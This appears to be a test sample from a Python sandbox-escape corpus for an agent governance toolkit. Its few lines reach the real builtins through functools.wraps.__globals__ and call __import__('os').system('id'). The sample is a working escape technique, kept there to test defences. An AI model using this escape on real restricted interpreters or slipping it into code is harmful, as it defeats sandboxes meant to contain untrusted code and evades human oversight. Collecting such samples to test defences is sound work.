# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631
# Family: module-attribute
# What: functools reaches the real sys/os through its module globals (functools.reduce.__module__ -> sys.modules)
import functools

g = functools.wraps.__globals__
print(sorted(g))
functools.partial(print)("x")
g["__builtins__"]["__import__"]("os").system("id")
